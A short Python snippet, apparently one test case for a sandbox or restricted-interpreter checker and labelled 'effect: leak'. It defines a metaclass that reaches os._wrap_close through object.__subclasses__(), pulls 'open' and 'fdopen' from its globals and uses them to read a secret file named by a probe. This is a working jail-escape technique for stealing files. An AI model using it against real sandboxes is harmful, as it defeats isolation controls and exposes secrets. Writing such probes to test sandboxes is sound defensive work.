# effect: leak
class Meta(type):
    def __call__(cls, path):
        for other in type.mro(cls)[-1].__subclasses__():
            if other.__name__ == "_wrap_close":
                return other.close.__globals__["fdopen"](
                    other.close.__globals__["open"](path, 0)
                )


class Reader(metaclass=Meta):
    pass


def attempt(probe):
    return Reader(probe["secret_file"]).read()
